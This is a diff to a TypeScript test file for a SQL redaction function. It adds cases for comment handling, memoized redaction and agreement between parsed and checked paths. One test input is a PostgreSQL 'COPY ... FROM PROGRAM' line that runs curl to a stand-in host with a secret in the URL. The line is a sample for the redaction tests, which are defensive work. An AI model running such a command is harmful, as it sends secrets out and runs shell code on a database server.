@@ -5,6 +5,8 @@ import { scrubSql } from './sql-scrub.ts'
 
 test('before the parser loads, the scrubber alone replaces literals', () => {
   assert.is(redactSql("SELECT * FROM users WHERE pw = 'hunter2' AND n = 42"), 'SELECT * FROM users WHERE pw = $1 AND n = $2')
+  // Strict scrubbing reads `#` as a comment; the parsed answer later (see below) must not be this cached one.
+  assert.is(redactSql('SELECT 5 # 3'), 'SELECT $1 ')
 })
 
 test('parsed statements: literals become placeholders, identifiers stay', async () => {
@@ -44,6 +46,31 @@ test('# is a comment only in strict (unparsed, MySQL) mode', async () => {
   await loadAuditRedaction()
   assert.is(redactSql('SELECT 5 # 3'), 'SELECT $1 # $2')
   assert.is(redactSql("SELECT * FROM `t` # 'secret'\nWHERE a = 1"), 'SELECT * FROM $1 \nWHERE a = $2')
+})
+
+test('a repeated statement gets the same redaction (memoized), including redacting its own redaction', async () => {
+  await loadAuditRedaction()
+  const text = "SELECT abalance FROM pgbench_accounts WHERE aid = 4242 AND note = 'x'"
+  const once = redactSql(text)
+  assert.is(once, 'SELECT abalance FROM pgbench_accounts WHERE aid = $1 AND note = $2')
+  assert.is(redactSql(text), once)
+  assert.is(redactSql(once), once)
+})
+
+test('text the caller knows parsed is redacted exactly as when the parse is checked', async () => {
+  await loadAuditRedaction()
+  const texts = [
+    "SELECT * FROM users WHERE pw = 'hunter2' /* note 'x' */ AND n = 42",
+    "COPY t FROM PROGRAM 'curl http://x/?k=secret'",
+    "SELECT E'it\\'s', $$dollar body$$, U&'d\\0061t', 3.5e2 -- trailing 'c'",
+    'SELECT 5 # 3',
+  ]
+  for (const t of texts) {
+    const checked = redactSql(t)
+    // A memo hit would hide the difference: vary the text the same way for both paths.
+    assert.is(redactSql(`${t} `, { parsed: true }), redactSql(`${t} `), t)
+    assert.is(redactSql(`${t}  `, { parsed: true }).trimEnd(), checked.trimEnd(), t)
+  }
 })
 
 test('empty and non-string input never echo anything raw', () => {
